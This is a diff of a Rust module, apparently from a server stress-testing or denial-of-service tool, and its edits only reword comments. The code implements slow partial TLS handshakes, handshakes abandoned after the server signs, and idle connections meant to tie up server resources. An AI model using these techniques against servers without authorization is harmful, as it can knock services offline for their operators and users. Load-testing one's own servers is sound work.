@@ -1,4 +1,4 @@
-//! Attacks below HTTP: on the TLS handshake and on connections as such.
+//! Attacks below HTTP: on the TLS handshake and on connections.
 
 use std::sync::Arc;
 use std::time::Duration;
@@ -10,10 +10,10 @@ use tokio::time::sleep;
 use super::attack::{Attack, drain};
 use super::field::server_name;
 
-/// What slow senders wait between two bytes.
+/// Pause of slow senders between two bytes.
 const DRIP: Duration = Duration::from_secs(1);
 
-/// Sends something at once, then a byte a second over and over, until the server has enough of it.
+/// Sends some bytes at once, and then one byte a second repeatedly, until the server ends it.
 pub(super) async fn drip(
     stream: impl AsyncRead + AsyncWrite,
     first: &[u8],
@@ -36,14 +36,14 @@ pub(super) async fn drip(
     }
 }
 
-/// The first bytes of a ClientHello, and one more each second.
+/// The first bytes of a ClientHello, and then one byte a second.
 pub(super) async fn slow_hello(attack: Arc<Attack>) -> io::Result<()> {
     let stream = attack.tcp(attack.field.access.address).await?;
-    // A record of a handshake (22), a ClientHello (1) of 508 bytes.
+    // A handshake record (22) with a ClientHello (1) of 508 bytes.
     drip(stream, &[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3], &[0]).await
 }
 
-/// A whole ClientHello, for which the server calculates and signs; its answer is read and nothing said.
+/// A whole ClientHello, for which the server computes and signs; its answer is read, and nothing follows.
 pub(super) async fn half_handshake(attack: Arc<Attack>) -> io::Result<()> {
     let mut stream = attack.tcp(attack.field.access.address).await?;
     let name = server_name().map_err(io::Error::other)?;
@@ -56,7 +56,7 @@ pub(super) async fn half_handshake(attack: Arc<Attack>) -> io::Result<()> {
     drain(&mut stream).await
 }
 
-/// A connection that nothing is asked on.
+/// A connection without requests.
 pub(super) async fn idle(attack: Arc<Attack>) -> io::Result<()> {
     let mut stream = attack.tls().await?;
     drain(&mut stream).await
